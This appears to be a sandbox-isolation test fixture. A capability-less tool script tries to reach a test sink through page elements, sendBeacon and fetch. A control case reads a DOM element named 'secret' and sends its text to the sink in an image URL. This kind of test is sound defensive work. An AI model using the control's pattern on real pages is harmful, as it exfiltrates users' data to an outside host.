//! guest = "tool"
//! promise = "tool-network"
//! capabilities = []
//! sandbox = "iframe"
for (const tag of ["img", "link", "iframe", "video", "embed", "object"]) {
  const element = document.createElement(tag);
  element.src = element.href = element.data = `${args.sink}/${tag}`;
  if (tag === "link") element.rel = "stylesheet";
  document.body?.append(element);
}
navigator.sendBeacon(args.sink + "/beacon", "x");
await fetch(args.sink + "/fetch", { mode: "no-cors" }).catch(() => {});
return "tried";
// --- control
const picture = new Image();
picture.src = `${stage.sink}/taken?${document.getElementById("secret").textContent}`;
await stage.until(() => picture.complete);
return "sent";
